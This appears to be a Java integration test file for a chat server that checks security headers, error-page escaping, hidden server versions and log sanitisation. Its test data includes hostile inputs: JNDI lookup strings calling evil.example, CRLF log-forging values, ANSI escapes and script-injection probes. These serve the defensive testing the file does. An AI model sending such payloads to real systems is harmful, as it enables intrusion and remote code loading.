package org.parley.it;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.UUID;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a browser is told and what an administrator reads (rows S24, S29 and S34), whatever somebody sends. */
@ExtendWith(SharedServer.class)
class HostilePageIT {

    private static final Pattern CONTROL = Pattern.compile("[\\x00-\\x08\\x0B-\\x1F\\x7F\\x80-\\x9F]");

    private final ParleyServer server;

    HostilePageIT(ParleyServer server) {
        this.server = server;
    }

    @ParameterizedTest
    @CsvSource({
        "200, GET, ''",
        "200, GET, index.html",
        "200, GET, parley.js",
        "200, GET, chat-room.js",
        "200, GET, parley.css",
        "200, GET, icons.svg",
        "200, GET, api/me",
        "200, GET, api/rooms",
        "200, GET, health/live",
        "404, GET, login",
        "404, GET, health/nothing",
        "404, GET, health/metrics",
        "404, GET, nothing",
        "404, GET, api/nothing",
        "404, GET, api/rooms/nowhere",
        "404, GET, chat/NOWHERE",
        "426, GET, chat/lobby",
        "426, GET, health/ws",
        "422, GET, api/me?name=%00",
        "400, GET, api/rooms/x/messages?limit=x",
        "405, PUT, api/me",
        "400, POST, api/session",
        "204, DELETE, api/session"
    })
    void everyAnswerForbidsWhatIsNotThePagesOwn(int status, String method, String path) {
        HttpRequest.Builder request = HttpRequest.newBuilder(server.http(path)).method(method, BodyPublishers.noBody());
        assertForbids(HostileRoom.ask(request), status);
    }

    @Test
    void onlyThePageOfOneRoomMayBeShownInAFrameAndOnlyByItsOwnOrigin() {
        assertThat(HostileRoom.get(server, "embed.html").headers().allValues("Content-Security-Policy"))
                .singleElement()
                .satisfies(policy -> assertThat(policy)
                        .contains("default-src 'none'", "script-src 'self'", "object-src 'none'", "base-uri 'none'")
                        .endsWith("frame-ancestors 'self'"));
        for (String other : new String[] {"embed.html/", "EMBED.html", "index.html?embed.html"}) {
            assertThat(HostileRoom.get(server, other).headers().allValues("Content-Security-Policy"))
                    .as(other)
                    .allSatisfy(policy -> assertThat(policy).endsWith("frame-ancestors 'none'"));
        }
    }

    @Test
    void aRefusalOfAnOriginOrOfAFormForbidsTheSame() {
        HttpRequest.Builder request = HttpRequest.newBuilder(server.http("api/session"))
                .POST(BodyPublishers.ofString("{}"))
                .header("Content-Type", "application/json");
        assertForbids(HostileRoom.ask(request, "Origin", "https://evil.example"), 403);
        HttpRequest.Builder form = HttpRequest.newBuilder(server.http("api/session"))
                .POST(BodyPublishers.ofString("name=evil"))
                .header("Content-Type", "application/x-www-form-urlencoded");
        assertForbids(HostileRoom.ask(form), 415);
    }

    @Test
    void aFileThatHasNotChangedForbidsTheSame() {
        HttpResponse<String> first = HostileRoom.get(server, "parley.js");
        String tag = first.headers().firstValue("ETag").orElseThrow();
        assertForbids(HostileRoom.get(server, "parley.js", "If-None-Match", tag), 304);
    }

    @Test
    void theRefusalOfAHandshakeForbidsTheSame() {
        try (RawSocket evil = RawSocket.handshake(server, "/chat/x", "Origin", "https://evil.example");
                RawSocket nowhere = RawSocket.handshake(server, "/chat/LOBBY")) {
            assertThat(evil.head())
                    .startsWith("HTTP/1.1 403")
                    .contains("Content-Security-Policy: default-src 'none'", "X-Content-Type-Options: nosniff");
            assertThat(nowhere.head())
                    .startsWith("HTTP/1.1 404")
                    .contains("Content-Security-Policy: default-src 'none'", "X-Content-Type-Options: nosniff");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"%3Cscript%3Ealert(1)%3C/script%3E", "x?%3Cscript%3E", "api/%3Cscript%3E", "chat/%3Cscript%3E"})
    void anErrorPageRepeatsNoMarkupAndNoDetail(String path) {
        HttpResponse<String> answer = HostileRoom.get(server, path);
        assertThat(answer.statusCode()).isEqualTo(404);
        assertThat(answer.body())
                .doesNotContainIgnoringCase("<script")
                .doesNotContainIgnoringCase("exception")
                .doesNotContain("org.parley", "\tat ");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "nothing", "api/me", "api/nothing", "chat/NOWHERE"})
    void noAnswerTellsAVersionOfTheServer(String path) {
        HttpResponse<String> answer = HostileRoom.get(server, path);
        assertThat(answer.headers().map().keySet()).doesNotContain("x-powered-by", "X-Powered-By");
        assertThat(answer.headers().firstValue("Server").orElse("")).doesNotContainPattern("\\d");
        assertThat(answer.body()).doesNotContainPattern("(?i)(payara|glassfish|grizzly)[^<]{0,20}\\d");
    }

    @Test
    void theLogHoldsNoControlCharactersNoTextNoSecretAndNoLookUp() {
        String mark = UUID.randomUUID().toString().replace("-", "");
        String secret = mark.substring(0, 22);
        String cookie = "parley-guest=" + secret + ".";
        String own = "http://localhost:" + server.port();
        String[] origins = {
            "https://" + mark + ".example/\u001B[31mred\u001B]0;title\u0007",
            "https://" + mark + "${jndi:ldap://evil.example/x}",
            "https://" + mark + "\tx\u0080\u009B\u0000",
            "https://" + mark + "%0d%0a2026-11-22 00:00:00 ERROR forged",
            "https://" + mark + "{0}{1}%s%n",
            "https://" + mark + "x".repeat(5_000)
        };
        for (String origin : origins) {
            RawSocket.handshake(server, "/chat/x", "Origin", origin, "Cookie", cookie)
                    .close();
            RawSocket.handshake(server, "/chat/x%0d%0a" + mark, "Origin", origin)
                    .close();
        }
        for (String name : new String[] {"%0d%0aERROR+forged", "%1B%5B31m", "$%7Bjndi:ldap://evil.example/x%7D"}) {
            RawSocket.handshake(server, "/chat/x?name=" + name + mark, "Origin", own)
                    .close();
        }
        RawSocket.handshake(server, "/chat/x|" + mark, "Cookie", "parley-guest=" + secret + "\u0001\"")
                .close();
        String jndi = "${jndi:ldap://evil.example/" + mark + "}\u001B[31m";
        RawSocket.handshake(
                        server,
                        "/chat/LOBBY" + mark,
                        "User-Agent",
                        jndi,
                        "Referer",
                        jndi,
                        "X-Forwarded-For",
                        jndi,
                        "X-Request-Id",
                        jndi,
                        "Sec-WebSocket-Protocol",
                        mark)
                .close();
        HostileRoom.get(
                server,
                "api/me?name=%1B%5B31m" + mark,
                "User-Agent",
                "${jndi:ldap://" + mark + "}",
                "Parley-Base",
                mark);
        var eve = new Browser(server);
        eve.register("${jndi:x}\r\n" + mark, "password " + mark);
        eve.register("Eve " + mark.substring(0, 8), "password " + mark);
        eve.login("\u001b[31m" + mark, "wrong " + mark);
        RawSocket.request(server, "GET /\u001B[31m" + mark + " HTTP/9.9\r\n\r\n")
                .close();
        RawSocket.request(
                        server,
                        "POST /api/session?x=" + mark + " HTTP/1.1\r\nHost: localhost:" + server.port()
                                + "\r\nCookie: " + cookie + "\r\nConnection: close\r\n"
                                + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 3\r\n\r\na=b")
                .close();

        String text = "text-" + mark;
        try (HostileRoom room = new HostileRoom(server);
                RawSocket raw = RawSocket.json(server, room.id())) {
            for (String frame : new String[] {
                "{\"type\":\"send\",\"id\":1,\"room\":\"ROOM\",\"cid\":\"a\",\"text\":\"TEXT \\u001b[31m ${jndi:x}\"}",
                "{\"type\":\"send\",\"id\":2,\"room\":\"ROOM\",\"cid\":\"b\",\"text\":\"TEXT\\u0000\"}",
                "{\"type\":\"send\",\"id\":3,\"room\":\"ROOM\",\"cid\":\"c\",\"text\":\"TEXT",
                "{\"type\":\"TEXT\\r\\n\",\"id\":4}",
                "{\"type\":\"who\",\"id\":5,\"room\":\"TEXT\\r\\n\"}"
            }) {
                raw.send(RawSocket.text(frame.replace("ROOM", room.id()).replace("TEXT", text)));
            }
            raw.text(frame -> frame.contains("\"re\":5"));
            raw.send(RawSocket.frame(
                    RawSocket.FIN | RawSocket.RSV1 | RawSocket.TEXT, text.getBytes(StandardCharsets.UTF_8)));
            raw.closeCode();
            room.assertUndisturbed(text + " \u001b[31m ${jndi:x}");
        }

        String output = server.output();
        assertThat(output).contains("refused the origin https://" + mark + "\\u0024{jndi");
        assertThat(output.lines().filter(line -> CONTROL.matcher(line).find())).isEmpty();
        assertThat(output).doesNotContain("${jndi", text, secret + ".", "x".repeat(300));
        assertThat(eve.cookie()).startsWith("parley-session=");
        assertThat(output).doesNotContain(eve.cookie().substring("parley-session=".length()));
        assertThat(Arrays.stream(output.split("\n", -1)).filter(line -> line.contains(mark)))
                .isNotEmpty()
                .allSatisfy(line -> assertThat(line).contains("refused the origin"));
    }

    private static void assertForbids(HttpResponse<String> answer, int status) {
        assertThat(answer.statusCode()).isEqualTo(status);
        assertThat(answer.headers().allValues("Content-Security-Policy"))
                .singleElement()
                .satisfies(policy -> assertThat(policy)
                        .contains(
                                "default-src 'none'",
                                "script-src 'self'",
                                "object-src 'none'",
                                "base-uri 'none'",
                                "frame-ancestors 'none'")
                        .doesNotContain("unsafe", "*"));
        assertThat(answer.headers().allValues("X-Content-Type-Options")).containsExactly("nosniff");
        assertThat(answer.headers().allValues("Referrer-Policy")).containsExactly("no-referrer");
        assertThat(answer.headers().allValues("Permissions-Policy"))
                .containsExactly("camera=(), microphone=(), geolocation=()");
    }
}
